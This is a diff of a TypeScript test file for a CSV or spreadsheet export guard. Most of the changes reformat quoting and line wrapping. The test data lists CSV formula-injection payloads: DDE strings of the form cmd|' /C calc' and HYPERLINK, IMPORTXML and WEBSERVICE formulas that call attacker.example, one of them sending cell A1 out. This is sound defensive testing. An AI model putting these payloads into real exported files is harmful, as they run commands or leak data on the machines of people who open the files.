@@ -28,16 +28,16 @@ async function written(rows: readonly (readonly string[])[], delimiter: ',' | '\
 /** Payloads as lists of CSV injection give them, and what only looks like one. */
 const RUN = [
   '=1+1',
-  '=cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
   '=IMPORTXML("http://attacker.example","//a")',
   '=WEBSERVICE("http://attacker.example")',
   '=DDE("cmd";"/C calc";"x")',
   '+1+1',
-  '+cmd|\' /C notepad\'!A1',
+  "+cmd|' /C notepad'!A1",
   '-1+1',
-  '-2+3+cmd|\' /C calc\'!D2',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!D2",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '@A1',
   '\t=1+1',
   '\r=1+1',
@@ -47,12 +47,29 @@ const RUN = [
   "'=1+1",
 ];
 const TEXT_AS_IT_IS = ['+13125550100', '+1 312 555 0100', '-MADEUP-1', '-0012', '-12 units', '-1,234.56'];
-const PLAIN = ['-12.50', '-3', '+4', '-.5', '-0', '12', 'MADEUP-1', '3-4', 'a=b', '', "'", "'x", 'x@clinic.example'];
+const PLAIN = [
+  '-12.50',
+  '-3',
+  '+4',
+  '-.5',
+  '-0',
+  '12',
+  'MADEUP-1',
+  '3-4',
+  'a=b',
+  '',
+  "'",
+  "'x",
+  'x@clinic.example',
+];
 
 describe('what a spreadsheet would run', () => {
   it.each([...RUN, ...TEXT_AS_IT_IS])('gets an apostrophe: %j', async (payload) => {
     expect(guarded(payload)).toBe(`'${payload}`);
-    const path = await written([['A', 'B'], [payload, 'x']]);
+    const path = await written([
+      ['A', 'B'],
+      [payload, 'x'],
+    ]);
     const sheet = read(readFileSync(path), { raw: true }).Sheets.Sheet1 ?? {};
     const cell = sheet.A2 as { t: string; v: unknown; f?: string } | undefined;
     expect(cell?.t).toBe('s');
@@ -63,7 +80,16 @@ describe('what a spreadsheet would run', () => {
   it.each(PLAIN)('and nothing else does: %j', async (text) => {
     expect(guarded(text)).toBe(text);
     expect(isGuarded(text)).toBe(false);
-    expect((await textsOf(await written([['A', 'B'], [text, 'x']])))[1]).toEqual([text, 'x']);
+    expect(
+      (
+        await textsOf(
+          await written([
+            ['A', 'B'],
+            [text, 'x'],
+          ]),
+        )
+      )[1],
+    ).toEqual([text, 'x']);
   });
   it('is safe in a header, too', async () => {
     const path = await written([['=1+1', 'B']]);
@@ -73,7 +99,13 @@ describe('what a spreadsheet would run', () => {
 
 describe('a .csv', () => {
   it('is UTF-8 with a mark, CRLF and quotes where something could be taken for a delimiter', async () => {
-    const path = await written([['A', 'B'], ['Zoë', 'a,b'], ['a;b', 'say "x"'], ['line\nbreak', 'tab\there'], ['a|b', '']]);
+    const path = await written([
+      ['A', 'B'],
+      ['Zoë', 'a,b'],
+      ['a;b', 'say "x"'],
+      ['line\nbreak', 'tab\there'],
+      ['a|b', ''],
+    ]);
     expect(readFileSync(path, 'utf8')).toBe(
       '\ufeffA,B\r\nZoë,"a,b"\r\n"a;b","say ""x"""\r\n"line\nbreak","tab\there"\r\n"a|b",\r\n',
     );
@@ -93,7 +125,11 @@ describe('a .csv', () => {
     );
   });
   it('is read by a second reader with the same texts', async () => {
-    const rows = [['A', 'B'], ['Zoë, the "second"', 'two\nlines'], ['001', '2026-09-01']];
+    const rows = [
+      ['A', 'B'],
+      ['Zoë, the "second"', 'two\nlines'],
+      ['001', '2026-09-01'],
+    ];
     const sheet = read(readFileSync(await written(rows)), { raw: true }).Sheets.Sheet1;
     expect(sheet && utils.sheet_to_json(sheet, { header: 1, raw: true })).toEqual(rows);
   });
